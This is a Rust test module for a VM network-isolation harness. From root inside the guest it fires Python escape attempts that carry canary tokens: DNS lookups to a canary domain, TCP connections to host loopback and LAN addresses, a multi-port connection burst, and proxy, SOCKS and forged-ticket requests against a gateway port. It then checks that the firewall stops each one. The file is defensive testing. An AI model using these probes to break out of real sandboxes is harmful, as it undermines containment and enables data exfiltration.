//! Attempts at leaving the machine: in a session, and by its root.

use crate::guest::Guest;
use crate::monitor::{Channel, Monitor, wall};
use crate::person::Person;
use anyhow::{Result, ensure};
use rcc_attacks::runner::command;
use rcc_attacks::{Attack, Control, Expect, Trace, table};
use rcc_rig::Rig;
use std::fmt::Write as _;

/// Of the tables those of the short form.
const SHORT: &[&str] = &["N01", "N06", "N13b", "N13c", "D01", "D07"];
/// Attempts at a time: an emulated machine is slow, and much of an attempt is waiting.
const AT_ONCE: usize = 4;
/// What only somebody in the machine can try: at what the monitor makes up, and at the gateway's own port.
const AT_THE_MONITOR: &[Attack] = &[
    only_there("M01", "the monitor's own resolver", "once(lambda: dns('10.0.2.3', T + '.canary.example', 1))"),
    only_there("M02", "the host's loopback", "once(lambda: tcp('10.0.2.2', 9999))"),
    only_there(
        "M03",
        "the host by its own address, and its LAN",
        "each(lambda a: tcp(*a), ('192.168.77.20', 80), ('192.168.77.1', 80))",
    ),
    only_there(
        "M04",
        "many at once",
        r"once(lambda: many())
def many():
    import concurrent.futures
    with concurrent.futures.ThreadPoolExecutor(32) as pool:
        list(pool.map(lambda p: tcp(SINK4, p), (80, 443, 22, 53, 8080, 47081) * 8))",
    ),
];
/// A script that has `gateway()`, which connects to the gateway's port.
macro_rules! to_the_gateway {
    ($script:literal) => {
        concat!(
            $script,
            r"def gateway():
    where = os.environ['GATEWAY'].split(':')
    if where[0] != 'vsock':
        return to(where[0], int(where[1]))
    s = socket.socket(socket.AF_VSOCK)
    s.settimeout(20)
    s.connect((int(where[1]), int(where[2])))
    return s"
        )
    };
}
/// What goes to the gateway's port, where the wall lets it through: no control, since nothing lies behind it.
const AT_THE_GATEWAY: &[Attack] = &[
    only_there(
        "M10",
        "the gateway's port as a web server, and as a proxy",
        to_the_gateway!(
            r"each(lambda r: port(r),
    b'GET http://allowed.example/%s HTTP/1.1\r\nhost: allowed.example\r\n\r\n', b'CONNECT allowed.example:443 HTTP/1.1\r\n\r\n%s', b'\5\1\0%s', b'\x16\3\1\0\x40%s')
def port(r):
    with gateway() as s:
        s.settimeout(20)
        s.sendall(r.replace(b'%s', T.encode()).ljust(64, b'\0'))
        if not s.recv(1):
            raise Denied('closed')
"
        ),
    ),
    only_there(
        "M11",
        "a ticket that was guessed",
        to_the_gateway!(
            r"once(lambda: port())
def port():
    with gateway() as s:
        s.settimeout(20)
        s.sendall(b'rcc\1\1' + bytes(27) + T.encode().ljust(32)[:32])
        if not s.recv(1):
            raise Denied('closed')
"
        ),
    ),
];

const fn only_there(id: &'static str, what: &'static str, command: &'static str) -> Attack {
    Attack { id, what, command, trace: Trace::Wire, control: Control::Root, denied: Expect::Harmless("") }
}

/// Runs commands in a session, and gives what each printed.
pub fn in_session(rig: &Rig<'_>, guest: &mut Guest, commands: &[String]) -> Result<Vec<String>> {
    let mut person = Person::open(rig)?;
    let said = guest.session(&mut person, &commands.join("\n"))?;
    person.farewell("RCC-417")?;
    Ok(vec![said])
}

/// Everything by the network that the tests hold, and what the machine's own root has besides: with the wall nobody sees any
/// of it, and without it what the monitor carries is seen.
pub fn by_root(rig: &Rig<'_>, guest: &mut Guest, monitor: &Monitor, whole: bool) -> Result<()> {
    let of_tables = [table::network::ATTACKS, table::dns::ATTACKS, table::gateway::ATTACKS].concat();
    let all: Vec<Attack> = of_tables
        .into_iter()
        .filter(|attack| matches!(attack.trace, Trace::Wire))
        .filter(|attack| whole || SHORT.contains(&attack.id))
        .chain(AT_THE_MONITOR.iter().copied())
        .collect();
    let (mut wrong, mut seen_without) = (String::new(), Vec::new());
    let seen =
        |token: &str| -> Result<bool> { Ok(rig.world.assert_unseen(token).is_err() || monitor.service_saw(token)) };
    for up in [true, false] {
        if !up {
            wall(false)?;
        }
        let tokens: Vec<String> = all.iter().map(|_| rig.world.token()).collect();
        let said = make(guest, monitor, &all, &tokens)?;
        for (attack, token) in all.iter().zip(&tokens) {
            ensure!(said.contains(&format!("::{} exit=", attack.id)), "{} did not end: {said}", attack.id);
            match (up, seen(token)?) {
                (true, true) => writeln!(wrong, "{} ({}) went through the wall", attack.id, attack.what)?,
                (false, true) => seen_without.push(attack.id),
                _ => {}
            }
        }
    }
    wall(true)?;
    let tokens: Vec<String> = AT_THE_GATEWAY.iter().map(|_| rig.world.token()).collect();
    let said = make(guest, monitor, AT_THE_GATEWAY, &tokens)?;
    for (attack, token) in AT_THE_GATEWAY.iter().zip(&tokens) {
        if seen(token)? || !said.contains(&format!("::{} exit=13", attack.id)) {
            writeln!(wrong, "{} ({}): {said}", attack.id, attack.what)?;
        }
    }
    println!(
        "       {} attempts; without the wall {} were seen: {}",
        all.len(),
        seen_without.len(),
        seen_without.join(" ")
    );
    // A machine without a network card has nothing to take down: the channel itself is the wall.
    let carried: &[&str] = match monitor.channel {
        Channel::Network => &["N01", "N06", "N13b", "N13c", "D01", "D07", "M01", "M02", "M03", "M04"],
        Channel::Vsock(_) => &[],
    };
    for id in carried {
        if !seen_without.contains(id) {
            writeln!(wrong, "{id} is VACUOUS: it is not seen without the wall either")?;
        }
    }
    if matches!(monitor.channel, Channel::Vsock(_)) && !seen_without.is_empty() {
        writeln!(wrong, "a machine without a network reached something")?;
    }
    ensure!(wrong.is_empty(), "{wrong}");
    Ok(())
}

/// Has the machine's root make attempts, some at a time, and gives what they printed.
fn make(guest: &mut Guest, monitor: &Monitor, attacks: &[Attack], tokens: &[String]) -> Result<String> {
    let mut script = format!("export GATEWAY={}\n", monitor.gateway());
    let commands: Vec<String> = attacks.iter().zip(tokens).map(|(a, t)| format!("( {}\n) &", command(a, t))).collect();
    for some in commands.chunks(AT_ONCE) {
        writeln!(script, "{}\nwait", some.join("\n"))?;
    }
    guest.file("/root/attempts.sh", &script)?;
    guest.root_tries("cd /root && bash attempts.sh")
}
